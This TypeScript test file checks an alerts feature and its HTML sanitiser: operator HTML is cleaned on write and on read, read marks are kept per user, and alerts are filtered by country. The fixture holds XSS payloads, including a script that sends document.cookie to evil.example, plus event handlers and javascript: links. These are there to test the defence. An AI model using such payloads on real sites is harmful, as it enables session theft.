/**
 * Alerts (spec 3, 7): the operator's HTML is stripped of scripts, handlers and javascript: links
 * when written and again when answered; each user reads (closes) an alert for themself only.
 */
import { desc, eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AlertsResponseSchema } from '../../schemas/notices';
import { alertReads, alerts } from '../../server/db/schema';
import { seedDemo } from '../../server/db/seed';
import { t as text } from '../../texts/t';
import { runOperator, type OperatorIo } from '../../scripts/operator-commands';
import { sanitiseHtml } from '../../server/lib/sanitize';
import { bearer, signIn, type SignedIn } from '../helpers/auth';
import { createTestApp, type TestApp } from '../helpers/test-app';

const ALERT = '/api/alert';
const MINUTE = 60 * 1000;
const notFound = { error: 'not_found', error_msg: text('errors.notFound') };

const DIRTY =
  '<p onclick="steal()" style="color:red">Плановые работы <b>ночью</b>' +
  '<script>fetch("https://evil.example/?c="+document.cookie)</script>' +
  '<img src="x" onerror="alert(1)"> <img src="/help/kpi-1.svg" alt="схема" onload="x()">' +
  ' <a href="javascript:alert(1)">жми</a> <a href=" JaVaScRiPt:alert(2)">ещё</a>' +
  ' <a href="https://status.example.ru" target="_blank" onmouseover="x()">статус</a></p>' +
  '<iframe src="https://evil.example"></iframe><style>body{display:none}</style>';
const CLEAN =
  '<p>Плановые работы <b>ночью</b><img src="x" /> <img src="/help/kpi-1.svg" alt="схема" />' +
  ' <a rel="noopener noreferrer">жми</a> <a rel="noopener noreferrer">ещё</a>' +
  ' <a href="https://status.example.ru" target="_blank" rel="noopener noreferrer">статус</a></p>';

describe('alerts', () => {
  let t: TestApp;
  let demo1: SignedIn;
  let demo2: SignedIn;
  let demo3: SignedIn;
  let kz: SignedIn;
  const lines: string[] = [];
  const io: OperatorIo = {
    out: (line) => lines.push(line),
    err: (line) => lines.push(line),
    readFile: () => {
      throw new Error('no files in this test');
    },
  };
  const operator = (...argv: string[]) => runOperator({ db: t.db, now: () => t.clock.now(), io }, argv);

  beforeAll(async () => {
    t = await createTestApp();
    await seedDemo(t.db, { now: t.clock.now() });
    // The demo alert is not part of these cases.
    await t.db.delete(alerts);
    demo1 = await signIn(t, 'demo1');
    demo2 = await signIn(t, 'demo2');
    demo3 = await signIn(t, 'demo3');
    kz = await signIn(t, 'kz-demo');
  });
  afterAll(async () => {
    await t.close();
  });

  const list = async (as: SignedIn) => {
    const response = await t.app.inject({ method: 'GET', url: ALERT, headers: bearer(as.token) });
    expect(response.statusCode, response.body).toBe(200);
    return AlertsResponseSchema.strict().parse(response.json()).alerts;
  };
  const read = (alertId: number, as: SignedIn) =>
    t.app.inject({ method: 'POST', url: ALERT, payload: { alert_id: alertId }, headers: bearer(as.token) });
  const newest = async () => {
    const [row] = await t.db.select().from(alerts).orderBy(desc(alerts.id)).limit(1);
    if (!row) throw new Error('no alert');
    return row;
  };

  let maintenance: number;

  it('stores the operator\'s HTML already stripped of scripts, handlers and javascript: links', async () => {
    expect(await operator('alert', 'add', '--html', DIRTY, '--author', 'Оператор')).toBe(0);
    const row = await newest();
    maintenance = row.id;
    expect(row.contentHtml).toBe(CLEAN);
    for (const banned of ['<script', 'onclick', 'onerror', 'onload', 'onmouseover', 'javascript:', 'JaVaScRiPt', '<iframe', '<style', 'style=']) {
      expect(row.contentHtml).not.toContain(banned);
    }
    expect(lines).toContain('Внимание: HTML очищен, недопустимые теги и атрибуты удалены');
  });

  it('strips a row written around the operator when answering it', async () => {
    const [row] = await t.db
      .insert(alerts)
      .values({ contentHtml: DIRTY, activeFrom: new Date(t.clock.now().getTime() - MINUTE), author: 'SQL' })
      .returning({ id: alerts.id });
    const answered = (await list(demo1)).find((alert) => alert.id === row?.id);
    expect(answered?.content).toBe(CLEAN);
    await t.db.delete(alerts).where(eq(alerts.id, row?.id ?? 0));
  });

  it('lists a user\'s unread active alerts, newest first', async () => {
    t.clock.advance(MINUTE);
    expect(await operator('alert', 'add', '--html', '<p>Второе</p>', '--author', 'Оператор', '--until', new Date(t.clock.now().getTime() + 3 * MINUTE).toISOString())).toBe(0);
    const second = (await newest()).id;
    const shown = await list(demo1);
    expect(shown.map((alert) => alert.id)).toEqual([second, maintenance]);
    expect(shown[1]).toEqual({ id: maintenance, content: CLEAN, created_at: expect.any(String) });
    // The second one ends in three minutes.
    t.clock.advance(4 * MINUTE);
    expect((await list(demo1)).map((alert) => alert.id)).toEqual([maintenance]);
    t.clock.advance(-5 * MINUTE);
  });

  it('keeps read marks per user, idempotently', async () => {
    const first = await read(maintenance, demo1);
    expect(first.statusCode).toBe(200);
    expect(first.json()).toEqual({ ok: true });
    expect((await read(maintenance, demo1)).json()).toEqual({ ok: true });
    expect(await t.db.$count(alertReads, eq(alertReads.alertId, maintenance))).toBe(1);
    expect((await list(demo1)).map((alert) => alert.id)).not.toContain(maintenance);
    expect((await list(demo2)).map((alert) => alert.id)).toContain(maintenance);
    // Group 3 sees no section but still gets alerts.
    expect((await list(demo3)).map((alert) => alert.id)).toContain(maintenance);
  });

  it('shows a park only the alerts of its country and the common ones', async () => {
    expect(await operator('alert', 'add', '--html', '<p>Казахстан</p>', '--country', '3', '--author', 'Оператор')).toBe(0);
    const kazakh = (await newest()).id;
    expect((await list(kz)).map((alert) => alert.id)).toContain(kazakh);
    expect((await list(demo2)).map((alert) => alert.id)).not.toContain(kazakh);
    expect((await read(kazakh, demo2)).json()).toEqual(notFound);
    expect((await read(kazakh, kz)).statusCode).toBe(200);
  });

  it('ends an alert for everybody when the operator says so', async () => {
    expect(await operator('alert', 'end', String(maintenance))).toBe(0);
    expect((await list(demo2)).map((alert) => alert.id)).not.toContain(maintenance);
    // Closing it on a screen that still shows it is fine.
    expect((await read(maintenance, demo2)).statusCode).toBe(200);
  });

  it('answers 404 for an unknown alert and 400 for a malformed body', async () => {
    expect((await read(999999, demo1)).json()).toEqual(notFound);
    const malformed = await t.app.inject({ method: 'POST', url: ALERT, payload: { alert_id: 'x' }, headers: bearer(demo1.token) });
    expect(malformed.statusCode).toBe(400);
    expect((await t.app.inject({ method: 'GET', url: ALERT })).statusCode).toBe(401);
  });
});

describe('sanitiseHtml', () => {
  it('keeps the allowed formatting, links and images', () => {
    const allowed =
      '<h2>Заголовок</h2><h3>Раздел</h3><h4>Пункт</h4><p><strong>Жирный</strong> <b>b</b> <em>курсив</em> <i>i</i> <u>u</u><br />' +
      '<a href="mailto:help@example.ru" rel="noopener noreferrer">почта</a> <a href="/news" rel="noopener noreferrer">новости</a></p>' +
      '<ul><li>один</li></ul><ol><li>два</li></ol><blockquote>цитата</blockquote><img src="https://example.ru/a.png" alt="a" />';
    expect(sanitiseHtml(allowed)).toBe(allowed);
    expect(sanitiseHtml(CLEAN)).toBe(CLEAN);
  });

  it('forces rel on every link and keeps only _blank and _self targets', () => {
    expect(sanitiseHtml('<a href="https://x.ru" target="_top" rel="opener">x</a>')).toBe(
      '<a href="https://x.ru" rel="noopener noreferrer">x</a>',
    );
    expect(sanitiseHtml('<a href="ftp://x.ru">x</a>')).toBe('<a rel="noopener noreferrer">x</a>');
  });

  it('drops images that are not on the web or this site', () => {
    expect(sanitiseHtml('<img src="//evil.example/x.png"><img src="data:image/png;base64,AAAA"><img src="javascript:x">')).toBe('');
  });

  it('drops unknown tags but keeps their text, except for code and embedded frames', () => {
    expect(sanitiseHtml('<div><span>текст</span></div><noscript>нет</noscript><svg><text>svg</text></svg>')).toBe('текст');
  });
});
